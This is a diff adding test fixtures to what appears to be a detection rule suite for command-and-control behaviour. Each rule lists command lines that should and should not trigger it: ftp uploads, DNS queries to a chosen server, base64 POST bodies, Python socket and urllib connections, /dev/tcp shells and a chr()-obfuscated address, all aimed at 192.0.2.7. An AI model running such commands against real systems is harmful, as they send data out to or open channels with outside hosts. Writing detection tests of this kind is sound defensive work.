@@ -115,4 +115,56 @@ export const commandAndControl: Triggers = {
     hits: [{ sh: '$TRIGGER socket 2 3 1' }],
     misses: [{ sh: '$TRIGGER socket 2 3 6' }],
   },
+  'command-and-control/file-transfer-tool': {
+    hits: ['ftp -n 192.0.2.7', 'curl -T x ftp://192.0.2.7/', ['python3', '-c', 'import smtplib']],
+    misses: ['curl http://192.0.2.7/'],
+  },
+  'command-and-control/name-server-asked': {
+    hits: ['dig @192.0.2.7 x.example.com', 'nslookup a.example.com 192.0.2.7'],
+    misses: ['dig example.com', 'host example.com'],
+  },
+  'command-and-control/encoded-in-request': {
+    hits: [['curl', '-d', 'aGVsbG8gd29ybGQhIQ==', 'http://192.0.2.7/']],
+    misses: [['curl', '-d', 'name=value', 'http://192.0.2.7/']],
+  },
+  'command-and-control/script-client': {
+    hits: [['python3', '-c', 'import urllib.request; urllib.request.urlopen("http://192.0.2.7/")']],
+    misses: [['python3', '-c', 'import socket']],
+  },
+  'command-and-control/socket-by-interpreter': {
+    hits: [['python3', '-c', 'import socket; socket.create_connection(("192.0.2.7", 80))']],
+    misses: [['python3', '-c', 'import socketserver']],
+  },
+  'command-and-control/web-by-shell': {
+    hits: [
+      {
+        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 2 bash -c \\"echo > /dev/tcp/192.0.2.7/80\\" 2> /dev/null; true"',
+      },
+    ],
+    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/80" 2> /dev/null; true' }],
+  },
+  'command-and-control/web-by-script': {
+    hits: [
+      {
+        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 2 python3 -c \\"import socket; socket.create_connection((chr(49)+chr(57)+chr(50)+\'.0.2.7\', 80))\\";  2> /dev/null; true"',
+      },
+    ],
+    misses: [
+      {
+        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 2 bash -c \\"echo > /dev/tcp/192.0.2.7/80\\" 2> /dev/null; true"',
+      },
+    ],
+  },
+  'command-and-control/mail-by-unusual-program': {
+    hits: [
+      {
+        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 2 bash -c \\"echo > /dev/tcp/192.0.2.7/25\\" 2> /dev/null; true"',
+      },
+    ],
+    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/25" 2> /dev/null; true' }],
+  },
+  'command-and-control/proxy-variable': {
+    hits: [{ sh: 'cp "$TRIGGER" curl; http_proxy=http://192.0.2.7:80 ./curl try close 99' }],
+    misses: [{ sh: 'cp "$TRIGGER" curl; ./curl try close 99' }],
+  },
 }
